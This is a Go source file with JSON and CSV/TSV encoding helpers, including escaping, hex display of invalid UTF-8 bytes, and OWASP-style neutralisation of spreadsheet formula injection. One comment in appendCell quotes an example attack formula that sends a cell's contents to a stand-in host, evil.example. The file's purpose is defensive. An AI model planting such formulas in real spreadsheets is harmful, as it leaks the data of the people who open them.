package batch

import (
	"strconv"
	"unicode/utf8"

	"github.com/sharekit/sharekit/internal/ascii"
)

const hexDigits = "0123456789abcdef"

// appendJSONString appends s as a JSON string. It escapes what JSON requires
// (quote, backslash, control characters) plus U+2028 and U+2029, which are
// valid JSON but end a line in JavaScript. Bytes that are not UTF-8 become
// U+FFFD, as encoding/json does; records are checked for valid UTF-8 before
// they get here, so that only matters for an error record's "input", which
// goes through appendJSONRaw instead.
func appendJSONString(dst []byte, s string) []byte {
	return appendJSON(dst, s, false)
}

// appendJSONRaw is appendJSONString, except that each byte that is not part
// of valid UTF-8 is written as the four characters \xNN (in JSON: "\\xNN"),
// so a reader sees which bytes were wrong. The "input_base64" field carries
// the exact bytes for anyone who needs them back.
func appendJSONRaw(dst []byte, s string) []byte {
	return appendJSON(dst, s, true)
}

func appendJSON(dst []byte, s string, hexBad bool) []byte {
	dst = append(dst, '"')
	start := 0
	for i := 0; i < len(s); {
		// Links and posts are long runs of bytes JSON holds as they are,
		// passed eight at a time.
		i += ascii.JSONSafe.Span(s[i:])
		if i >= len(s) {
			break
		}
		c := s[i]
		if c < utf8.RuneSelf { // not JSONSafe: escaped
			dst = append(dst, s[start:i]...)
			switch c {
			case '"', '\\':
				dst = append(dst, '\\', c)
			case '\n':
				dst = append(dst, '\\', 'n')
			case '\r':
				dst = append(dst, '\\', 'r')
			case '\t':
				dst = append(dst, '\\', 't')
			default:
				dst = append(dst, '\\', 'u', '0', '0', hexDigits[c>>4], hexDigits[c&0xf])
			}
			i++
			start = i
			continue
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			dst = append(dst, s[start:i]...)
			if hexBad {
				dst = append(dst, '\\', '\\', 'x', hexDigits[c>>4], hexDigits[c&0xf])
			} else {
				dst = append(dst, `\ufffd`...)
			}
			i++
			start = i
			continue
		}
		if r == '\u2028' || r == '\u2029' {
			dst = append(dst, s[start:i]...)
			dst = append(dst, '\\', 'u', '2', '0', '2', hexDigits[r&0xf])
			i += size
			start = i
			continue
		}
		i += size
	}
	dst = append(dst, s[start:]...)
	return append(dst, '"')
}

// appendHexBad appends s with each byte that is not valid UTF-8 written as
// \xNN, for the csv, tsv and text outputs, which have no other way to show it.
func appendHexBad(dst []byte, s string) []byte {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 {
			dst = append(dst, '\\', 'x', hexDigits[s[i]>>4], hexDigits[s[i]&0xf])
			i++
			continue
		}
		dst = append(dst, s[i:i+size]...)
		i += size
	}
	return dst
}

// appendCSVField appends s as one RFC 4180 field separated by sep, quoted
// only when it has to be: it holds the separator, a quote, a line break, or
// starts with a space (which some readers would trim).
func appendCSVField(dst []byte, s string, sep byte) []byte {
	needs := len(s) > 0 && (s[0] == ' ' || s[0] == '\t')
	if !needs {
		for i := 0; i < len(s); i++ {
			if c := s[i]; c == sep || c == '"' || c == '\n' || c == '\r' {
				needs = true
				break
			}
		}
	}
	if !needs {
		return appendHexBad(dst, s)
	}
	dst = append(dst, '"')
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '"' {
			dst = appendHexBad(dst, s[start:i+1])
			dst = append(dst, '"')
			start = i + 1
		}
	}
	dst = appendHexBad(dst, s[start:])
	return append(dst, '"')
}

// appendCell appends s as one csv/tsv field of f's output, neutralised
// against formula injection unless Options.KeepFormulas: a cell that
// starts with = + - @, a tab or a carriage return is one a spreadsheet
// runs as a formula (=HYPERLINK("http://evil.example/?"&A1,"click")), so,
// as OWASP recommends, it gets a leading ' that makes it text.
func (f *formatter) appendCell(dst []byte, s string) []byte {
	if f.formulas && isFormula(s) {
		s = "'" + s
	}
	return appendCSVField(dst, s, f.sep)
}

// isFormula reports a cell a spreadsheet would take as a formula (OWASP's
// list: = + - @ tab CR).
func isFormula(s string) bool {
	if s == "" || s == "-" {
		return false // "-" alone (stdin's name) is text to every spreadsheet
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

func appendInt(dst []byte, n int) []byte { return strconv.AppendInt(dst, int64(n), 10) }
